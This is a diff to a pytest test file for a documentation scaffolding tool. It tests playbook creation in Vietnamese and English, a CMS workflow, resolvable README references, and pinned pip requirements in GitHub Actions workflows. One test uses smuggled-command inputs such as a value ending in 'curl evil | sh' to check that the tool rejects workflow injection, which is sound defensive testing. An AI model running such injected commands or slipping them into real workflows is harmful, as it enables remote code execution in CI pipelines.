@@ -5,16 +5,20 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
 from pathlib import Path
 
+import jsonschema
 import pytest
 from ruamel.yaml import YAML
 
-from journeybook.authoring.init import OWNED, RECORD, installable, running_version
+from journeybook.authoring.init import CMS_WORKFLOW, OWNED, RECORD, installable, running_version
+from journeybook.authoring.schema import journey_schema
 from journeybook.cli import main
+from journeybook.i18n import init_words
 
 BIN = Path(sys.executable).parent
 ENV = {**os.environ, "PATH": str(BIN) + os.pathsep + os.environ.get("PATH", ""),
@@ -33,9 +37,11 @@ def run(folder: Path, *args: str, check: bool = True) -> subprocess.CompletedPro
 
 @pytest.fixture(scope="module", params=["vi", "en"])
 def playbook(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A playbook in each language: the Vietnamese one with the form editor."""
     folder = tmp_path_factory.mktemp(f"init-{request.param}") / "my-playbook"
+    cms = ["--cms"] if request.param == "vi" else []
     assert main(["init", str(folder), "--language", request.param,
-                 "--repo-url", "https://github.com/example/playbook"]) == 0
+                 "--repo-url", "https://github.com/example/playbook", *cms]) == 0
     return folder
 
 
@@ -44,7 +50,8 @@ def workflow(folder: Path, name: str) -> dict:
 
 
 def test_the_new_playbook_checks_and_builds_strict(playbook: Path) -> None:
-    assert "ok: 1 journey" in run(playbook, str(BIN / "journeybook"), "check").stdout
+    checked = run(playbook, str(BIN / "journeybook"), "check").stdout
+    assert "1 journey" in checked or "1 hành trình" in checked, checked
     run(playbook, str(BIN / "journeybook"), "fmt", "--check")
     run(playbook, str(BIN / "mkdocs"), "build", "--strict")
     site = playbook / "site"
@@ -89,7 +96,11 @@ def test_the_workflows_install_journeybook_pinned_and_run_the_checks(playbook: P
     for flow in (pr, deploy):
         [job] = flow["jobs"].values()
         commands = "\n".join(step.get("run", "") for step in job["steps"])
-        assert f'pip install "journeybook=={release}"' in commands
+        # The requirement reaches pip as one quoted word from the environment, never as
+        # part of the script.
+        [install] = [step for step in job["steps"] if step.get("name") == "Install"]
+        assert install["env"]["JOURNEYBOOK"] == f"journeybook=={release}"
+        assert 'pip install "$JOURNEYBOOK"' in install["run"]
         assert "pip install -e" not in commands and "pytest" not in commands
         for step in job["steps"]:
             if "uses" in step:
@@ -166,7 +177,7 @@ def test_upgrade_shows_only_the_template_changes_and_keeps_the_teams(tmp_path: P
     # less: what it wrote is in the record, and in the files.
     record_path = folder / RECORD
     record = json.loads(record_path.read_text("utf-8"))
-    old = {path: record["files"][path] for path in OWNED}
+    old = {path: record["files"][path] for path in OWNED if path in record["files"]}
     old[".github/workflows/pr.yml"] = old[".github/workflows/pr.yml"].replace(
         'python-version: "3.12"', 'python-version: "3.11"')
     old[".gitignore"] = old[".gitignore"].replace("node_modules/\n", "")
@@ -237,3 +248,135 @@ def test_a_development_build_is_pinned_to_a_release_the_index_can_have() -> None
     assert installable("0.2.0.dev3+g1a2b3c") == "0.2.0"
     assert installable("0.2.0+ubuntu1") == "0.2.0"
     assert installable("0.2.0rc1") == "0.2.0rc1"
+
+
+# --- What the playbook points at exists -----------------------------------------------------
+
+
+def test_every_reference_of_the_new_playbook_resolves(playbook: Path) -> None:
+    """The README's sections, the files and pages it names, the schema every journey's first
+    line names, the example's pointer to the README: all there."""
+    readme = (playbook / "README.md").read_text("utf-8")
+    words = init_words(json.loads((playbook / RECORD).read_text("utf-8"))["language"])
+    headings = re.findall(r"^## (.+)$", readme, re.M)
+    # The contents list names every section, and every section is listed.
+    listed = re.findall(r"^\d+\. (.+)$", readme.split("\n## ", 1)[0], re.M)
+    assert listed == headings
+    # The scaffold's and the example's comment send authors to "Writing a journey".
+    assert words["readme_write_title"] in headings
+    example = next((playbook / "journeys").glob("*/journey.yaml"))
+    first_line = example.read_text("utf-8").splitlines()[0]
+    assert first_line == "# yaml-language-server: $schema=../../schema/journey.schema.json"
+    schema = (example.parent / "../../schema/journey.schema.json").resolve()
+    assert json.loads(schema.read_text("utf-8")) == journey_schema()
+    jsonschema.validate(YAML(typ="safe").load(example.read_text("utf-8")), journey_schema())
+    # Every file or folder the README names in backticks exists (placeholders aside).
+    for named in re.findall(r"`((?:journeys|content|schema|\.github|includes)/[^`<]+)`", readme):
+        assert (playbook / named).exists(), named
+    # Every relative link of the pages resolves; the README's links go to the web.
+    for link in re.findall(r"\]\(([^)]+)\)", readme):
+        assert link.startswith("https://"), link
+    for name in ("Writing a journey", "Viết một hành trình"):
+        if name in example.read_text("utf-8"):
+            assert name in headings
+
+
+def test_the_edit_pencil_is_promised_only_with_a_repository(tmp_path: Path) -> None:
+    """Without repo_url the site has no "Edit this page" button: the README and the page on
+    proposing a change say how to turn it on and what to do meanwhile."""
+    with_repo, without = tmp_path / "with", tmp_path / "without"
+    assert main(["init", str(with_repo), "--repo-url", "https://github.com/o/p"]) == 0
+    assert main(["init", str(without)]) == 0
+    words = init_words("en")
+    readme, page = (without / "README.md").read_text("utf-8"), (
+        without / "content" / "propose-a-change.md").read_text("utf-8")
+    assert words["readme_propose_no_pencil"] in readme and "repo_url" in readme
+    assert "Edit this page" not in page.split("## Steps")[1].split("\n4.")[0]
+    assert "\nrepo_url:" not in (without / "mkdocs.yml").read_text("utf-8")
+    page = (with_repo / "content" / "propose-a-change.md").read_text("utf-8")
+    assert "*Edit this page*" in page
+    assert "\nrepo_url:" in (with_repo / "mkdocs.yml").read_text("utf-8")
+
+
+def test_cms_turns_the_form_editor_on_with_its_workflow(playbook: Path) -> None:
+    config = YAML(typ="rt").load((playbook / "mkdocs.yml").read_text("utf-8"))
+    [options] = [entry["journeybook"] for entry in config["plugins"]
+                 if isinstance(entry, dict) and "journeybook" in entry]
+    cms_workflow = playbook / CMS_WORKFLOW
+    if config["theme"]["language"] != "vi":  # the English playbook was made without --cms
+        assert "cms" not in options and not cms_workflow.exists()
+        return
+    assert options["cms"] is True and options["edit_in_cms"] is True
+    flow = workflow(playbook, "cms.yml")
+    assert flow["on"]["push"]["branches"] == ["cms/**"]
+    [job] = flow["jobs"].values()
+    commands = "\n".join(step.get("run", "") for step in job["steps"])
+    assert "journeybook fmt --like origin/main" in commands
+    assert "gh workflow run pr.yml" in commands
+    assert "workflow_dispatch" in workflow(playbook, "pr.yml")["on"]
+    readme = (playbook / "README.md").read_text("utf-8")
+    assert "npx decap-server" in readme and "127.0.0.1" in readme
+    assert "cms_base_url" in readme
+
+
+@pytest.mark.parametrize("spec, pinned", [
+    ("journeybook==0.3.0", "journeybook==0.3.0"),
+    ("journeybook @ https://github.com/journeybook/journeybook/releases/download/v0.3.0/"
+     "journeybook-0.3.0-py3-none-any.whl",
+     "journeybook @ https://github.com/journeybook/journeybook/releases/download/v0.3.0/"
+     "journeybook-0.3.0-py3-none-any.whl"),
+    ("journeybook @ git+https://github.com/journeybook/journeybook@v0.3.0",
+     "journeybook @ git+https://github.com/journeybook/journeybook@v0.3.0"),
+])
+def test_tool_writes_the_requirement_everywhere(tmp_path: Path, spec: str, pinned: str) -> None:
+    folder = tmp_path / "playbook"
+    assert main(["init", str(folder), "--tool", spec, "--cms",
+                 "--repo-url", "https://github.com/o/p"]) == 0
+    for name in ("pr.yml", "deploy.yml", "cms.yml"):
+        [job] = workflow(folder, name)["jobs"].values()
+        [install] = [step for step in job["steps"] if step.get("name") == "Install"]
+        assert install["env"]["JOURNEYBOOK"] == pinned, name
+    assert f'pip install "{pinned}"' in (folder / "README.md").read_text("utf-8")
+    assert json.loads((folder / RECORD).read_text("utf-8"))["tool"] == spec
+    zizmor = shutil.which("zizmor") or str(BIN / "zizmor")
+    if Path(zizmor).exists():
+        result = subprocess.run([zizmor, "--offline", "--no-progress",
+                                 str(folder / ".github" / "workflows")],
+                                capture_output=True, text=True)
+        assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("spec, says", [
+    ("mkdocs==1.6", "not journeybook"),
+    ("journeybook", "names no version"),
+    ("journeybook @ file:///home/me/journeybook-0.3.0-py3-none-any.whl", "https://"),
+    ('journeybook==0.3.0"; curl evil | sh; "', "characters"),
+    ("journeybook==0.3.0\n  run: evil", "characters"),
+    ("journeybook=0.3", "not a pip requirement"),
+])
+def test_tool_refuses_what_a_workflow_cannot_install(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str], spec: str, says: str) -> None:
+    assert main(["init", str(tmp_path / "p"), "--tool", spec]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith("error: --tool") and says in err and "Traceback" not in err
+    assert not (tmp_path / "p").exists()
+
+
+def test_cms_needs_a_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["init", str(tmp_path / "p"), "--cms"]) == 1
+    assert "--cms needs --repo-url" in capsys.readouterr().err
+    assert not (tmp_path / "p").exists()
+
+
+def test_upgrade_adds_the_form_editor_and_moves_the_pin(tmp_path: Path) -> None:
+    folder = tmp_path / "playbook"
+    assert main(["init", str(folder), "--language", "vi", "--tool", "journeybook==0.0.9"]) == 0
+    result = upgraded(folder, "--cms", "--tool", "journeybook==0.0.10", "--write")
+    assert result.returncode == 0, result.stderr
+    assert (folder / CMS_WORKFLOW).is_file()
+    assert "cms: true" in result.stdout  # says what to set in mkdocs.yml, which it never edits
+    [job] = workflow(folder, "pr.yml")["jobs"].values()
+    [install] = [step for step in job["steps"] if step.get("name") == "Install"]
+    assert install["env"]["JOURNEYBOOK"] == "journeybook==0.0.10"
+    record = json.loads((folder / RECORD).read_text("utf-8"))
+    assert record["cms"] is True and CMS_WORKFLOW in record["files"]
